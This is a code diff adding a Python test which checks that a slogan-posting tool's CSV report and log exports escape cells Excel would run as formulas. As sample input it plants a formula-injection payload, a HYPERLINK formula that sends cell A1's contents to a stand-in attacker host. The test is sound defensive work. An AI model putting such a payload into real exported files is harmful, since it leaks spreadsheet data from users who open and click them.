@@ -122,6 +122,30 @@ def test_csv_opens_in_excel_and_matches_the_log(project_dir: Path, tmp_path: Pat
         assert row[7] == ("" if expected is None else str(expected))
 
 
+def test_csv_cells_that_excel_would_run_as_formulas_are_quoted(project_dir: Path, tmp_path: Path) -> None:
+    slogans = project_dir / "slogans.yaml"
+    bullet = "- Dân vận khéo thì việc gì cũng thành công!"
+    slogans.write_text(
+        slogans.read_text(encoding="utf-8").replace('"Dân vận khéo thì việc gì cũng thành công!"', f'"{bullet}"'),
+        encoding="utf-8",
+    )
+    config = seed(project_dir)
+    with Ledger.open(load_project(config, {}).config.database) as ledger:
+        row = ledger.claim("outbox", at(9, 8), "dan-van-kheo", "h" * 64, "c", at(9, 8))
+        assert row is not None
+        ledger.mark_failed(row.id, '=HYPERLINK("http://evil.example/?"&A1,"bấm")', at(9, 8))
+    target = tmp_path / "bao-cao.csv"
+    assert CliRunner().invoke(cli, ["report", "--csv", str(target), "-c", str(config)]).exit_code == 0
+    report_cells = [cell for row in csv.reader(io.StringIO(target.read_text(encoding="utf-8-sig"))) for cell in row]
+    logged = CliRunner().invoke(cli, ["log", "--csv", "-c", str(config)]).stdout
+    assert logged.startswith("\ufeff")  # the same BOM as the report, so Excel reads the accents
+    log_cells = [cell for row in csv.reader(io.StringIO(logged.removeprefix("\ufeff"))) for cell in row]
+    for cells in (report_cells, log_cells):
+        assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")], cells
+        assert any(cell.startswith("'=HYPERLINK") for cell in cells)
+    assert "'" + bullet in report_cells
+
+
 def html_report(project_dir: Path, tmp_path: Path) -> Path:
     config = seed(project_dir)
     target = tmp_path / "bao-cao.html"
